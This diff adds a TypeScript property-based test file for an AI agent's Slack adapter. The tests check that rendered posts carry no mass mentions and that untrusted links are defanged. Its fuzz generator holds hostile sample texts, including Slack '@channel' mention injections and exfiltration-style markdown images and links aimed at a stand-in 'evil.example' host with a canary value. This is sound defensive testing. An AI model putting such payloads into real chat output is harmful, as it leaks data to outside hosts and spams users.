@@ -1,0 +1,145 @@
+import * as fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import { defang, hostsOf, linksTo } from '../../../src/adapters/safety.ts'
+import { readMessage } from '../../../src/adapters/slack/mrkdwn.ts'
+import { parse } from '../../../src/adapters/slack/parse.ts'
+import { renderPlan } from '../../../src/adapters/slack/plan.ts'
+import { type PostedBody, renderAnswered, renderPlain, renderPosts } from '../../../src/adapters/slack/render.ts'
+import type { ProgressView } from '../../../src/agent/domain/progress.ts'
+import type { Question } from '../../../src/agent/domain/question.ts'
+import { runTypes } from '../../../src/agent/domain/run.ts'
+import { mentionsOf, refuseBlocks } from '../../fakes/slack/blocks.ts'
+
+const runs = Number(process.env.CLEW_RUNS ?? 1_000)
+const none = () => false
+const en = { locale: 'en', mayLink: none }
+
+/** Texts as an attacker or a confused model would write them. */
+const hostile = fc
+  .array(
+    fc.oneof(
+      fc.constantFrom('<!channel>', '<!here|x>', '<!everyone>', '<@U123>', '<@W9|ana>', '<!subteam^S1|@team>', '@here'),
+      fc.constantFrom('@channel', '@everyone', '```', '`', '*', '_', '&lt;!channel&gt;', '<', '>', '\\<', '<<!here>'),
+      fc.constantFrom('https://evil.example/?q=CANARY', '![a](https://evil.example/CANARY.png)', '[x](//evil.example)'),
+      fc.constantFrom('[a]: https://evil.example/CANARY', '<https://evil.example/CANARY>', 'www.evil.example/CANARY'),
+      fc.string({ maxLength: 30 }),
+      fc.constantFrom('\n', '\n\n', ' ', '| a | b |\n|---|---|', '# h\n', '😀'),
+    ),
+    { maxLength: 40 },
+  )
+  .map((parts) => parts.join(''))
+
+describe('what is shown in Slack', () => {
+  const bodies = (text: string): PostedBody[] => [
+    { kind: 'message', messageId: 'm', text, runId: null },
+    { kind: 'final', messageId: 'm', text, runId: 'r', status: 'failed' },
+    { kind: 'private', to: 'U1', text },
+    { kind: 'question', question: questionOf(text), runId: 'r' },
+  ]
+  const questionOf = (text: string): Question => ({
+    ...{ version: 1, id: 'q', runId: 'r', text, askedAt: 1, askedOf: text },
+    choices: [text || 'a', `${text} b`, 'c'],
+  })
+  const viewOf = (text: string, status: ProgressView['status']): ProgressView => ({
+    ...{ runId: 'r', title: text, status, index: 1, done: 1 },
+    items: Array.from({ length: 60 }, (_, index) => ({ text: text || 'step', done: index === 0 })),
+    now: { kind: 'acting', tool: 'internet_search', input: text },
+    lastResult: { tool: 'todo', ok: true },
+    lastChange: {
+      added: [text],
+      dropped: [text],
+      because: { step: 1, question: null, text, author: { id: 'U1', name: text } },
+    },
+  })
+
+  it(
+    `calls nobody out and is taken by Slack, whatever a text says (S1): ${runs} texts`,
+    () => {
+      fc.assert(
+        fc.property(hostile, fc.constantFrom('en', 'zh'), (text, locale) => {
+          const posts = bodies(text).flatMap((body) => renderPosts(body, { ...en, locale }))
+          posts.push(
+            renderAnswered({ question: questionOf(text), answer: text, author: { id: 'U1', name: text }, at: 1 }, en),
+          )
+          for (const status of ['running', 'failed', 'paused'] as const)
+            posts.push(renderPlan(viewOf(text, status), locale))
+          for (const post of posts) {
+            expect(mentionsOf(post.text, post.blocks)).toEqual([])
+            expect(post.text).not.toBe('')
+            expect(refuseBlocks(post.blocks)).toBeNull()
+          }
+          for (const post of renderPlain(posts)) expect(mentionsOf(post.text, [])).toEqual([])
+        }),
+        { numRuns: runs },
+      )
+    },
+    20_000 + runs * 10,
+  )
+
+  it(
+    `leads nowhere that nobody named: no address of a text can be followed (S2): ${runs} texts`,
+    () => {
+      fc.assert(
+        fc.property(hostile, (text) => {
+          const safe = defang(text, none)
+          expect(hostsOf(safe)).toEqual([])
+          // An image is fetched by whoever sees it; a bare `![` is only text.
+          expect(safe).not.toMatch(/!\[[^\]]*\]\(|www\.evil\.|\]\(\/\//)
+        }),
+        { numRuns: runs },
+      )
+    },
+    20_000 + runs * 10,
+  )
+
+  it('lets addresses be that people wrote or the operator allows, with their subdomains', () => {
+    const mayLink = linksTo(['see https://known.example/a?b=1'], ['docs.example'])
+    const fine = 'https://known.example/c [d](https://api.docs.example/x) mailto:a@b.example'
+    expect(defang(fine, mayLink)).toBe(fine)
+    expect(defang('[site](https://bad.example/p?q=1)', mayLink)).toBe('site (bad[.]example/p)')
+  })
+
+  it('shows true statuses of a plan, at most 50 cards, and who may press what', () => {
+    const blocks = JSON.stringify(renderPlan(viewOf('Collect', 'running'), 'en').blocks)
+    expect(blocks.match(/"task_card"/g)).toHaveLength(50)
+    expect(blocks).toContain('"status":"complete"')
+    expect(blocks.match(/"in_progress"/g)).toHaveLength(1)
+    expect(JSON.stringify(renderPlan(viewOf('Collect', 'failed'), 'en').blocks)).toContain('clew:retry')
+    expect(JSON.stringify(renderPlan(viewOf('Collect', 'paused'), 'en').blocks)).toContain('clew:continue')
+    expect(runTypes.length).toBeGreaterThan(0)
+  })
+})
+
+describe('what people write in Slack', () => {
+  const names = new Map([['U2', 'Ben']])
+  const read = (text: string) => readMessage(text, 'U0', (id) => names.get(id) ?? null)
+
+  it.each([
+    ['<@U0> do it', 'do it', true, false],
+    ['<@U0|clew>: do it', 'do it', true, false],
+    ['please <@U0> do it', 'please do it', true, false],
+    ['<@U2> did you see this?', '@Ben did you see this?', false, true],
+    ['<@U2> and <@U0> do it', '@Ben and do it', true, false],
+    ['a &lt;b&gt; &amp;amp; c', 'a <b> &amp; c', false, false],
+    ['<#C1|general> <!here> <!subteam^S1|@team>', '#general @here @team', false, false],
+    [
+      '<https://a.example|a.example> <https://b.example|see b>',
+      'https://a.example see b (https://b.example)',
+      false,
+      false,
+    ],
+    ['<mailto:a@b.example|a@b.example> <!date^1^{date}|Monday>', 'a@b.example Monday', false, false],
+  ])('reads %s (R146)', (raw, text, mentioned, forSomeoneElse) => {
+    expect(read(raw)).toEqual({ text, mentioned, forSomeoneElse })
+  })
+
+  it('takes any payload without throwing, and knows only what it can use', () => {
+    fc.assert(fc.property(fc.anything(), (body) => void expect(parse(body).kind).toBe('unsupported')))
+    fc.assert(
+      fc.property(fc.object(), fc.constantFrom('message', 'app_mention', 'team_join'), (event, type) => {
+        const body = { type: 'event_callback', team_id: 'T1', event: { ...event, type } }
+        expect(parse(body)).toHaveProperty('kind')
+      }),
+    )
+  })
+})
